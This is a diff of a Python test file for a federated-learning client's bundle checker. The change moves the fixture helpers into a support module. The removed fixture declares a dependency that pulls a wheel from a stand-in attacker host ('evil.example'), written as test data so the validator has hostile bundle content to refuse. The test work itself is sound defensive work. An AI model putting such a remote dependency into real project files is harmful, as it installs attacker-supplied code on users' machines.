@@ -1,7 +1,6 @@
 """Whatever a coordinator packs into a bundle, a site reads configuration or refuses on one harmless line."""
 
 import hashlib
-import io
 import stat
 import tracemalloc
 import zipfile
@@ -11,35 +10,10 @@ import pytest
 from flwr.cli.build import build_fab_from_disk
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from support.bundles import PYPROJECT, clientapp, pack
 
 from wardpose.client.bundle import APP, MAXIMUM_BYTES, BundleRefused, check_bundle, quote
 from wardpose.simulation.flower import write_bundle
-
-PYPROJECT = f"""\
-[project]
-name = "wardpose"
-version = "0.1.0"
-dependencies = ["evil @ https://evil.example/evil.whl"]
-[tool.flwr.app]
-publisher = "wardpose"
-[tool.flwr.app.components]
-serverapp = "any.server:app"
-clientapp = "{APP}"
-"""
-
-
-def pack(
-    *more: tuple[str | zipfile.ZipInfo, bytes | str],
-    pyproject: str | None = PYPROJECT,
-    compression: int = zipfile.ZIP_DEFLATED,
-) -> bytes:
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", compression) as archive:
-        if pyproject is not None:
-            archive.writestr("pyproject.toml", pyproject)
-        for name, content in more:
-            archive.writestr(name, content)
-    return buffer.getvalue()
 
 
 def check(content: bytes) -> None:
@@ -54,7 +28,7 @@ def special(name: str, mode: int) -> zipfile.ZipInfo:
 
 def test_the_bundle_that_a_coordinator_builds_may_come(tmp_path: Path) -> None:
     check(build_fab_from_disk(write_bundle(tmp_path / "app")))
-    check(pack(("README.md", "text"), (".info/CONTENT", "")))
+    check(pack(("README.md", "text")))
 
 
 @pytest.mark.parametrize(
@@ -77,10 +51,6 @@ def harmless(text: str) -> None:
     assert text.isascii()
     assert text.isprintable()
     assert len(text) < 400
-
-
-def clientapp(value: str) -> str:
-    return PYPROJECT.replace(f'clientapp = "{APP}"', value)
 
 
 @pytest.mark.parametrize(
